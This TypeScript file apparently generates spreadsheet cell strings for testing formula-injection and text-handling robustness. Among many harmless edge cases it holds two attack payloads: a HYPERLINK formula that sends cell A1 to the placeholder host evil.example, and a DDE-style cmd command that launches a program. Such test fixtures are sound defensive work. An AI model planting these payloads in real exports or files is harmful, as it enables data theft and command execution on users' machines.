/** Openings that some spreadsheet takes for the start of a formula, or that hide one. */
const OPENINGS = ['=', '+', '-', '@', '\t=', ' =', '\u200b=', '\u00a0=', '＝', "'=", '|', '%', '"=', ',=', '\n='];
const MIDDLES = [
  'HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  '1+1',
  'plain words',
  'a, comma; and a semicolon',
  'a "quoted" word and a lone "',
  'two\nlines and\r\na third',
  'right to left \u202egnp.exe\u202c and back',
  'עברית and عربي beside English',
  'emoji 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 and 🇺🇳',
  'half an emoji \ud83d and a null \u0000',
  '0012345678901234567890',
  '2026-06-15',
  '1e5',
  'TRUE',
  'ä ö ü ß ñ ç ŝ 漢字 ไทย',
  `${'long '.repeat(400)}`,
];
const ENDINGS = ['', ' ', '"', '\t', '\\', '\u200b', ',', '='];

/** Texts that have broken spreadsheets, in every combination until there are so many. The same ones every time. */
export function hostileCells(count: number): readonly string[] {
  const cells: string[] = [];
  for (const ending of ENDINGS) {
    for (const middle of MIDDLES) {
      for (const opening of ['', ...OPENINGS]) {
        if (cells.length < count) cells.push(`${opening}${middle}${ending}`);
      }
    }
  }
  return cells;
}
